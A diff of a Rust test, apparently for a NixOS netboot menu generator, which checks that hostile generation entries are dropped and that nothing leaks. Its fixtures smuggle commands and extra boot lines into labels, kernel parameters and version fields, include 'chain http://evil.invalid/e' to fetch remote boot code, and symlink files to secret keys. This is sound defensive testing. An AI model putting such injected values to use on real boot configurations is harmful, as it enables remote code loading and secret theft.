@@ -451,7 +451,7 @@ fn hostile_dists_are_left_out_and_nothing_leaks() {
         with("label-newline", "label", json!(format!("x\nLABEL evil\n  KERNEL http://{INJECTED}/k"))),
         with("params-json", "kernelParams", json!(["console=ttyS0", format!("quiet ; {}", cmd("d"))])),
         with("params-newline", "kernelParams", json!([format!("quiet\n  APPEND http://{INJECTED}/")])),
-        Gen { kernel_params: Some("quiet && chain http://evil.invalid/e.ipxe"), ..with("params-file", "label", json!("pf")) },
+        Gen { kernel_params: Some("quiet && chain http://evil.invalid/e"), ..with("params-file", "label", json!("p")) },
         with("toplevel", "toplevel", json!(format!("{{{{nixos-system-toplevel}}}} || {}", cmd("f")))),
         with("toplevel-newline", "toplevel", json!(format!("{{{{nixos-system-toplevel-newline}}}}\n{}", cmd("g")))),
         with("version", "version", json!(format!("24.05 ; {}", cmd("h")))),
@@ -459,9 +459,20 @@ fn hostile_dists_are_left_out_and_nothing_leaks() {
         with("revision-newline", "revision", json!(format!("abc\n{}", cmd("i")))),
         Gen { extra: link("kernel-params", &key), ..with("secret-params", "label", json!("sp")) },
         Gen { extra: link("bzImage", &key), ..with("secret-bzimage", "label", json!("sb")) },
-        Gen { machine_json: None, extra: link("machine.json", &secret_json.display().to_string()), ..Gen::new("secret-json", json!(null)) },
-        Gen { machine_json: None, raw_json: None, extra: vec![("machine.json", Entry::text(huge.to_string()))], ..Gen::new("huge-json", json!(null)) },
-        Gen { extra: link("kernel-params", &key), ..Gen::new("old-hostile-1", nixos_json("old-hostile.example.org", "1.0", &[])) },
+        Gen {
+            machine_json: None,
+            extra: link("machine.json", &secret_json.display().to_string()),
+            ..Gen::new("secret-json", json!(null))
+        },
+        Gen {
+            machine_json: None,
+            extra: vec![("machine.json", Entry::text(huge.to_string()))],
+            ..Gen::new("huge-json", json!(null))
+        },
+        Gen {
+            extra: link("kernel-params", &key),
+            ..Gen::new("old-hostile-1", nixos_json("old-hostile.example.org", "1.0", &[]))
+        },
         Gen::new("old-hostile-2", nixos_json("old-hostile.example.org", "2.0", &["52:54:00:00:00:02"])),
     ];
     let mut b = Batch::new();
